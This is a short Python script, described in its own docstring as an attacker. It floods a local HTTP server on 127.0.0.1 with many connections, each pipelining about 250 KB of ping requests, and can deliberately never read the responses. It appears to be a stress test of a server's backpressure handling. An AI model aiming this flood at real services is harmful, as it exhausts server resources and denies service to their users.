"""An attacker: connections that send 250 KB of small requests without waiting for answers, again and again.

`flood.py PORT CONNECTIONS read|unread`: with `unread`, no byte of the answers is ever read. Runs until it is ended.
"""

import asyncio
import sys

_REQUEST = b"GET /api/v2/ping HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
_SENT = _REQUEST * (250_000 // len(_REQUEST))


async def attack(port: int, *, reads: bool) -> None:
    """Connect, send everything, wait for the end of the connection, and begin again."""
    while True:
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port, limit=1024)
            try:
                if not reads:
                    writer.transport.pause_reading()  # type: ignore[attr-defined]  # every transport of a socket has it
                writer.write(_SENT)
                await writer.drain()
                while reads and await reader.read(65536):
                    pass
                await writer.wait_closed() if reads else await asyncio.sleep(3600)
            finally:
                writer.transport.abort()
        except OSError:
            await asyncio.sleep(0.001)


async def main() -> None:
    """Attack with as many connections as asked for."""
    port, connections, mode = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
    await asyncio.gather(*(attack(port, reads=mode == "read") for _ in range(connections)))


if __name__ == "__main__":
    asyncio.run(main())
